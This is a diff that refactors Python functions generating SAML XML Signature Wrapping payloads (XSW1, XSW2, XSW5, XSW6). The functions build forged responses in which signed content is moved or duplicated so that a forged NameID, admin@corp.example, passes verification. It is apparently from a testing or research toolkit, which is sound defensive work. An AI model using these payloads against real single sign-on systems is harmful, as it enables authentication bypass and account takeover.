@@ -233,14 +233,20 @@ def evil_copy(element, email="admin@corp.example", keep_signature=False):
     return copied
 
 
-def xsw1(sso):
-    # The response signed; an evil response with a new ID carries the signature, the signed original inside it.
+def evil_response(sso):
+    """A response signed as a whole, its evil copy under a new ID, and the original's signature taken out of it."""
     root = signed(sso, sign_response=True)
     original = copy.deepcopy(root)
     evil = evil_copy(root)
     evil.set("ID", "_evil" + root.get("ID"))
     signature = original.find("ds:Signature", NS)
     original.remove(signature)
+    return evil, original, signature
+
+
+def xsw1(sso):
+    # The evil response carries the signature, the signed original inside it.
+    evil, original, signature = evil_response(sso)
     signature.append(original)
     evil.insert(1, signature)
     return serialize(evil)
@@ -248,12 +254,7 @@ def xsw1(sso):
 
 def xsw2(sso):
     # As XSW1, with the signed original before the signature (a detached signature).
-    root = signed(sso, sign_response=True)
-    original = copy.deepcopy(root)
-    evil = evil_copy(root)
-    evil.set("ID", "_evil" + root.get("ID"))
-    signature = original.find("ds:Signature", NS)
-    original.remove(signature)
+    evil, original, signature = evil_response(sso)
     evil.insert(1, original)
     evil.insert(2, signature)
     return serialize(evil)
@@ -277,24 +278,26 @@ def xsw4(sso):
     return serialize(root)
 
 
-def xsw5(sso):
-    # The signed assertion's value changed, its signature kept; an unsigned copy of the original at the end.
+def changed_with_original(sso):
+    """The signed assertion with its NameID changed (its signature kept), and an unsigned copy of the original."""
     root = signed(sso)
     assertion = the_assertion(root)
     original = evil_copy(assertion, email="victim@corp.example")
     for name_id in assertion.iter("{%s}NameID" % NS["saml"]):
         name_id.text = "admin@corp.example"
+    return root, assertion, original
+
+
+def xsw5(sso):
+    # The copy of the original at the end of the message.
+    root, _, original = changed_with_original(sso)
     root.append(original)
     return serialize(root)
 
 
 def xsw6(sso):
-    # The signed assertion's value changed; a copy of the original inside its signature.
-    root = signed(sso)
-    assertion = the_assertion(root)
-    original = evil_copy(assertion, email="victim@corp.example")
-    for name_id in assertion.iter("{%s}NameID" % NS["saml"]):
-        name_id.text = "admin@corp.example"
+    # The copy of the original inside the changed assertion's signature.
+    root, assertion, original = changed_with_original(sso)
     assertion.find("ds:Signature", NS).append(original)
     return serialize(root)
 
